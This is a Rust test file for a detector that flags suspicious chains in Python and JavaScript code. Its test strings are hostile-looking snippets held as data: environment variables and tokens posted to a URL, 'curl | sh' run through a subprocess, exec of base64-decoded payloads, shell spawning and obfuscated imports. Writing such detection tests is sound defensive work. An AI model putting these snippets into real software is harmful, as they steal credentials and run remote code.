use super::*;

fn chains(language: Language, text: &str) -> bool {
    named(language, text, false).links.can_chain()
}

#[test]
fn one_link_alone_is_no_chain() {
    for text in [
        "import requests\nrequests.get('https://c.example.invalid')\n",
        "import subprocess\nsubprocess.run(['git', 'status'])\n",
        "import base64\nx = base64.b64decode(y)\n",
        "import os, requests\nrequests.get(u, verify=os.environ.get('CA_BUNDLE'))\n",
        "model.eval()\nimport base64\nast.literal_eval(base64.b64decode(y))\n",
        "from urllib.parse import quote\nhome = os.environ\n",
        "self.profile = x.profile\n",
        "getattr(os, 'fork', None); getattr(x, name)(base64.b64decode(y))\n",
        "__import__('pkg_resources').declare_namespace(__name__)\nx = ''.join(y)[::-1]\n",
        "empty = exec_count\nrequested = socketless\n",
    ] {
        assert!(!chains(Language::Python, text), "{text}");
    }
    for text in [
        "const {exec} = require('child_process'); exec('git status')",
        "const u = process.env.NODE_ENV; fetch('https://c.example.invalid')",
        "var root = Function(\"return this\")(); String.fromCharCode(1)",
        "webpack(__webpack_require__(12)); window['app'].eval_it(1)",
        "require('./a'); import('./b'); require(\"c\", 1)",
        "hash.digest('hex'); require(name)",
        "fetch(u, {a: 'a long text that ' + 'goes on and on'})",
        "const text = 'one ' +\n  'two'; fetch(text)",
    ] {
        assert!(!chains(Language::JavaScript, text), "{text}");
    }
}

#[test]
fn links_that_can_meet_are_a_chain() {
    for text in [
        "import os, requests\nrequests.post(u, json=dict(os.environ))\n",
        "import requests\nrequests.get(u, headers={'a': os.environ['A_TOKEN']})\n",
        "import base64\nexec(base64.b64decode(x))\n",
        "from subprocess import run\nrun('curl -s https://c.example.invalid | sh')\n",
        "import socket, pty\npty.spawn('sh')\n",
        "open(os.path.expanduser('~/.bashrc'), 'a')\n",
        "getattr(module, 'sys' + 'tem')('x')\n",
        "x = __import__('o' + 's')\n",
        "__import__('os').system('x')\n",
        "getattr(os, n)('x')\n",
        "m = import_module(base64.b64decode(n).decode())\n",
        "from pynput import keyboard\n",
    ] {
        assert!(chains(Language::Python, text), "{text}");
    }
    for text in [
        "fetch(u, {body: JSON.stringify(process.env)})",
        "const k = process.env.NPM_TOKEN; require('https').get(u + k)",
        "require('child_process').exec('curl ' + u)",
        "eval(atob(x))",
        "require('chi' + 'ld')",
        "process['bin' + 'ding']",
        "global[name]('x')",
        "const load = require; load(['f', 's'].join(''))",
        "require('\\x63hild')",
        "require(Buffer.from(n, 'base64').toString())",
    ] {
        assert!(chains(Language::JavaScript, text), "{text}");
    }
}

#[test]
fn places_are_told_in_order() {
    let text = "import os\nx = 1\nimport requests\nrequests.post(os.environ)\n";
    let places = named(Language::Python, text, true).places;
    let words: Vec<_> = places.iter().map(|(at, _)| &text[*at..at + 4]).collect();
    assert_eq!(words, ["requ", "envi"], "the same one again says nothing new");
    assert!(named(Language::Python, text, false).places.is_empty());
}

#[test]
fn links_that_stand_far_apart_do_not_meet() {
    let of = |between: usize| {
        let text = format!("eval(x);\n{}atob(y);\n", "z = 1;\n".repeat(between));
        named(Language::JavaScript, &text, true).meeting().len()
    };
    assert_eq!((of(10), of(NEAR)), (2, 0));
}

#[test]
fn places_beyond_those_that_are_kept_are_told() {
    let of = |text: &str| named(Language::Python, text, true);
    let comment = of(&format!("# {}\nexec(x)\n", "zlib,".repeat(40_000)));
    assert!(!comment.cut && comment.places.len() < 500 && comment.meeting().len() > 2, "{}", comment.places.len());
    let filler = "x".repeat(SAME);
    let many = of(&format!("zlib {filler}\n").repeat(PLACES + 1));
    assert!(many.cut && many.places.len() == PLACES);
    assert!(!of(&format!("zlib {filler}\n").repeat(PLACES)).cut);
}

#[test]
fn space_before_a_bracket_changes_nothing() {
    for (language, text) in [
        (Language::Python, "exec$(base64.b64decode(x))"),
        (Language::Python, "eval$(zlib.decompress(x))"),
        (Language::Python, "__import__$('os').system('x')"),
        (Language::Python, "__import__$('o' + 's')"),
        (Language::Python, "getattr$(os, n)('x')"),
        (Language::Python, "getattr$(builtins, n)('x')"),
        (Language::Python, "x = getattr$(m, 'sys' + 'tem')"),
        (Language::Python, "__builtins__$['ex' + 'ec']"),
        (Language::Python, "globals$()$[n](base64.b64decode(x))"),
        (Language::Python, "exec(bytes$([1, 2]))"),
        (Language::Python, "exec(chr$(112) + x)"),
        (Language::Python, "exec(''$.join$(x))"),
        (Language::Python, "m.system$('curl https://c.example.invalid')"),
        (Language::Python, "types.FunctionType$(base64.b64decode(x), y)"),
        (Language::JavaScript, "Function$(atob(x))()"),
        (Language::JavaScript, "fetch$(u, {body: JSON.stringify(process.env)})"),
        (Language::JavaScript, "https$.get(u + process.env.NPM_TOKEN)"),
        (Language::JavaScript, "fetch(u + os.hostname$())"),
        (Language::JavaScript, "require$('chi' + 'ld')"),
        (Language::JavaScript, "import$('chi' + 'ld')"),
        (Language::JavaScript, "global$[name]('x')"),
        (Language::JavaScript, "eval(x.reverse$()$.join$(''))"),
        (Language::Rust, "ureq::post(u).send_string(env!$(\"A_TOKEN\"))"),
    ] {
        let spaces: &[&str] = match language {
            Language::Python => &["", " ", "\t", " \\\n ", " # why\n"],
            _ => &["", " ", "\n\t", "/* why */", " // why\n"],
        };
        for space in spaces {
            let text = text.replace('$', space);
            assert!(chains(language, &text), "{text}");
        }
    }
    for text in
        ["vars [name](base64.b64decode(x))", "# the operating system (a, b)\nbase64.b64decode(x)", "exec_of (zlib)"]
    {
        assert!(!chains(Language::Python, text), "{text}");
    }
}

#[test]
fn a_variables_name_that_is_put_together_may_be_any() {
    for (name, chains_with_it) in
        [("'HOME'", false), ("'API_TOKEN'", true), ("'API_' + 'TOKEN'", true), ("'API_TOK\\x45N'", true), ("x", true)]
    {
        for text in
            [format!("requests.post(u, os.environ[{name}])"), format!("requests.post(u, os.getenv({name}, ''))")]
        {
            assert_eq!(chains(Language::Python, &text), chains_with_it, "{text}");
        }
        assert_eq!(chains(Language::JavaScript, &format!("fetch(process.env[{name}])")), chains_with_it, "{name}");
    }
}

#[test]
fn imports_are_told_without_a_tree() {
    let names = |names: &[&str]| names.iter().map(|name| (*name).to_owned()).collect();
    let of = |text| imports(Language::JavaScript, text);
    assert_eq!(of("var a = require('./a'), b = require( \"b\" ); // required"), names(&["./a", "b"]));
    assert_eq!(of("import x from './x'; import './y'; export * from \"z\""), names(&["./x", "./y", "z"]));
    assert_eq!(
        imports(Language::Python, "import a.b, c as d\nfrom .e import (f, g)\nx = 1\n"),
        names(&["a.b", "c", ".e.f", ".e.g"])
    );
}
